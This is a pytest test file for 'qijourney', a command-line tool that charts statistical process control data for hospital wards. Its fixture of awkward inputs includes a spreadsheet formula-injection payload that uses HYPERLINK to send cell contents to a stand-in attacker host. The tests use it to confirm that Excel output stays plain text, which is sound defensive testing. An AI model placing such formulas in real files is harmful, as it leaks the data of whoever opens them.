"""The real ``qijourney`` command, run as a user would run it."""

import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

EXAMPLE = Path(__file__).parents[2] / "qijourney" / "examples" / "wards.csv"
EXAMPLE_OPTIONS = [
    "--value",
    "value",
    "--numerator",
    "numerator",
    "--denominator",
    "denominator",
    "--date",
    "month",
    "--series",
    "measure",
    "--series",
    "ward",
    "--chart-column",
    "chart",
    "--improvement-column",
    "direction",
    "--target-column",
    "target",
    "--recalculate-column",
    "new_process",
    "--annotation-column",
    "note",
]


# The installed console script, as a user types it.
SCRIPT = Path(sys.executable).with_name("qijourney")


def qijourney(*args, cwd=None):
    command = [str(SCRIPT), *map(str, args)]
    env = dict(os.environ, PYTHONWARNINGS="error::DeprecationWarning")
    return subprocess.run(command, capture_output=True, text=True, cwd=cwd, env=env, timeout=120)


def test_help_teaches_with_worked_examples():
    result = qijourney("spc", "--help")
    assert result.returncode == 0
    assert "examples:" in result.stdout
    for option in (
        "--value",
        "--numerator",
        "--denominator",
        "--date",
        "--series",
        "--chart",
        "--chart-column",
        "--preset",
        "--improvement",
        "--improvement-column",
        "--target",
        "--target-column",
        "--recalculate-column",
        "--baseline-column",
        "--ghost-column",
        "--annotation-column",
        "--points-out",
        "--summary-out",
        "--chart-out",
        "--shift-length",
        "--mr-screening",
    ):
        assert option in result.stdout


def test_example_gives_tables_and_chart(tmp_path):
    points, summary, chart = tmp_path / "p.csv", tmp_path / "s.xlsx", tmp_path / "c.html"
    result = qijourney(
        "spc",
        EXAMPLE,
        *EXAMPLE_OPTIONS,
        "--points-out",
        points,
        "--summary-out",
        summary,
        "--chart-out",
        chart,
    )
    assert result.returncode == 0, result.stderr
    table = pd.read_csv(points)
    for column in (
        "measure",
        "ward",
        "month",
        "segment",
        "centre",
        "lower_limit",
        "upper_limit",
        "point_type",
    ):
        assert column in table.columns
    assert len(table) == len(pd.read_csv(EXAMPLE))
    icons = pd.read_excel(summary)
    assert len(icons) == 8
    assert set(icons["variation_icon"].fillna("")) <= {
        "",
        "common_cause",
        "improvement_high",
        "improvement_low",
        "concern_high",
        "concern_low",
        "neutral_high",
        "neutral_low",
    }
    assert set(icons["assurance_icon"].fillna("")) <= {"", "pass", "fail", "hit_or_miss"}
    page = chart.read_text()
    assert "vegaEmbed" in page and "Common cause variation" in page
    assert "cdn" not in page.lower() and "https://cdn" not in page


@pytest.mark.parametrize("suffix", [".parquet", ".xlsx"])
def test_reads_parquet_and_excel(tmp_path, suffix):
    source = tmp_path / f"in{suffix}"
    frame = pd.read_csv(EXAMPLE)
    frame = frame[frame["chart"] == "xmr"][["ward", "month", "value"]]
    if suffix == ".parquet":
        frame.to_parquet(source)
    else:
        frame.to_excel(source, index=False)
    out = tmp_path / "summary.parquet"
    result = qijourney(
        "spc",
        source,
        "--value",
        "value",
        "--date",
        "month",
        "--series",
        "ward",
        "--improvement",
        "down",
        "--summary-out",
        out,
    )
    assert result.returncode == 0, result.stderr
    assert len(pd.read_parquet(out)) == 4


def test_preset_and_rule_override(tmp_path):
    out = tmp_path / "points.csv"
    result = qijourney(
        "spc", EXAMPLE, *EXAMPLE_OPTIONS, "--preset", "qicharts2", "--points-out", out
    )
    assert result.returncode == 0, result.stderr
    assert "runs_signal" in pd.read_csv(out).columns
    result = qijourney(
        "spc",
        EXAMPLE,
        *EXAMPLE_OPTIONS,
        "--shift-length",
        "8",
        "--no-two-of-three",
        "--points-out",
        out,
    )
    assert result.returncode == 0, result.stderr
    assert "two_of_three_high" not in pd.read_csv(out).columns


def test_summary_printed_when_no_output_is_named():
    result = qijourney("spc", EXAMPLE, *EXAMPLE_OPTIONS)
    assert result.returncode == 0, result.stderr
    assert "variation_icon" in result.stdout and "Ward 4" in result.stdout


def test_bad_input_exits_non_zero_and_writes_nothing(tmp_path):
    source = tmp_path / "bad.csv"
    source.write_text("ward,month,falls\nA,2025-01-01,3\nA,2025-02-01,lots\nA,2025-03-01,4\n")
    out = tmp_path / "points.csv"
    result = qijourney(
        "spc",
        source,
        "--value",
        "falls",
        "--date",
        "month",
        "--series",
        "ward",
        "--points-out",
        out,
    )
    assert result.returncode == 2
    assert "bad.csv" in result.stderr and "row 2" in result.stderr and "'lots'" in result.stderr
    assert list(tmp_path.iterdir()) == [source]


def test_failed_output_leaves_no_partial_files(tmp_path):
    good, bad = tmp_path / "points.csv", tmp_path / "chart.gif"
    result = qijourney("spc", EXAMPLE, *EXAMPLE_OPTIONS, "--points-out", good, "--chart-out", bad)
    assert result.returncode == 2
    assert "chart.gif" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_missing_file_and_missing_column(tmp_path):
    result = qijourney("spc", tmp_path / "nope.csv", "--value", "x")
    assert result.returncode == 2 and "no such file" in result.stderr
    result = qijourney("spc", EXAMPLE, "--value", "falls")
    assert result.returncode == 2 and "'falls' (value)" in result.stderr


def test_example_command_writes_the_table(tmp_path):
    result = qijourney("example", "--out", tmp_path / "wards.csv")
    assert result.returncode == 0
    assert (tmp_path / "wards.csv").read_bytes() == EXAMPLE.read_bytes()
    assert "qijourney spc" in result.stdout


# Series names and notes as people type them: like formulas, an error value, a vertical tab.
AWKWARD = [
    '=HYPERLINK("https://attacker.example/?d="&E2,"Click to verify")',
    "+44 ward",
    "-5 beds",
    "@ward",
    "#REF!",
    "Ward\x0b4",
]


@pytest.fixture
def awkward_input(tmp_path):
    months = pd.date_range("2024-01-01", periods=15, freq="MS")
    frame = pd.DataFrame(
        {
            "ward": [name for name in AWKWARD for _ in months],
            "month": list(months) * len(AWKWARD),
            "value": [float(i % 7) for i in range(len(AWKWARD) * len(months))],
            "note": ["=1+1" if i % 15 == 3 else "" for i in range(len(AWKWARD) * len(months))],
        }
    )
    source = tmp_path / "awkward.csv"
    frame.to_csv(source, index=False)
    return source


def spc_awkward(source, summary, points):
    options = ["--value", "value", "--date", "month", "--series", "ward"]
    options += ["--annotation-column", "note", "--summary-out", summary, "--points-out", points]
    result = qijourney("spc", source, *options)
    assert result.returncode == 0, result.stderr


def test_excel_outputs_keep_text_as_text(awkward_input, tmp_path):
    from tests.workbook import filled_cells, run_on_opening

    summary, points = tmp_path / "summary.xlsx", tmp_path / "points.xlsx"
    spc_awkward(awkward_input, summary, points)
    shown = [name.replace("\x0b", "\ufffd") for name in AWKWARD]  # Excel cannot hold \x0b
    for path in (summary, points):
        cells = filled_cells(path)
        assert run_on_opening(cells) == []
        header = {c.value: c.column for c in cells if c.row == 1}
        column = [c for c in cells if c.column == header["ward"] and c.row > 1]
        assert {c.value for c in column} == set(shown)
        assert all(c.data_type == "s" for c in column)
    assert [c.value for c in filled_cells(points) if c.value == "=1+1"] == ["=1+1"] * 6
    table = pd.read_excel(summary)
    assert list(table["ward"]) == shown and table["latest_date"].iloc[0] == pd.Timestamp(
        "2025-03-01"
    )
    assert table["n"].tolist() == [15] * 6 and table["centre"].dtype == float


def test_csv_outputs_keep_an_analysts_values_exactly(awkward_input, tmp_path):
    summary, points = tmp_path / "summary.csv", tmp_path / "points.csv"
    spc_awkward(awkward_input, summary, points)
    table = pd.read_csv(summary, keep_default_na=False)
    assert list(table["ward"]) == AWKWARD  # no quote added, nothing replaced
    notes = pd.read_csv(points, keep_default_na=False)["annotation"]
    assert (notes == "=1+1").sum() == 6


def test_dates_are_written_as_dates_and_times_as_times(tmp_path):
    from qijourney.cli.main import main

    days = tmp_path / "days.csv"
    days.write_text("month,falls\n" + "".join(f"2025-{m:02d}-01,{m % 4}\n" for m in range(1, 13)))
    times = tmp_path / "times.csv"
    times.write_text("at,y\n2025-01-01 10:30,3\n2025-01-02 00:00,4\n2025-01-03 08:00,5\n")
    out_days, out_times = tmp_path / "p1.csv", tmp_path / "p2.csv"
    assert (
        main(
            [
                "spc",
                str(days),
                "--value",
                "falls",
                "--date",
                "month",
                "--points-out",
                str(out_days),
                "--quiet",
            ]
        )
        == 0
    )
    assert (
        main(
            [
                "spc",
                str(times),
                "--value",
                "y",
                "--date",
                "at",
                "--points-out",
                str(out_times),
                "--quiet",
            ]
        )
        == 0
    )
    assert out_days.read_text().splitlines()[1].startswith("2025-01-01,")
    assert out_times.read_text().splitlines()[1].startswith("2025-01-01 10:30:00,")


def test_the_default_chart_title_is_the_value_column_and_the_input(tmp_path):
    import argparse

    from qijourney.cli.spc_command import default_title

    def args(**given):
        values = {"value": None, "numerator": None, "denominator": None, "input": Path("wards.csv")}
        return argparse.Namespace(**{**values, **given})

    assert default_title(args(value="falls")) == "falls, wards.csv"
    assert (
        default_title(args(numerator="harm", denominator="bed_days"))
        == "harm / bed_days, wards.csv"
    )


def test_xbar_from_summarised_subgroups(tmp_path):
    from qijourney.cli.main import main

    source = tmp_path / "waits.csv"
    months = pd.date_range("2024-01-01", periods=18, freq="MS").strftime("%Y-%m-%d")
    rows = "".join(f"{d},{40 + i % 3},{5 + i % 2},{3 + i % 4 / 2}\n" for i, d in enumerate(months))
    source.write_text("month,mean_wait,patients,sd_wait\n" + rows)
    out = tmp_path / "points.csv"
    options = [
        "--value",
        "mean_wait",
        "--denominator",
        "patients",
        "--subgroup-sd-column",
        "sd_wait",
    ]
    assert (
        main(
            [
                "spc",
                str(source),
                *options,
                "--date",
                "month",
                "--chart",
                "xbar",
                "--points-out",
                str(out),
                "--quiet",
            ]
        )
        == 0
    )
    points = pd.read_csv(out)
    assert len(points) == 18 and points["upper_limit"].notna().all()
    assert points["denominator"].tolist()[:2] == [5, 6]
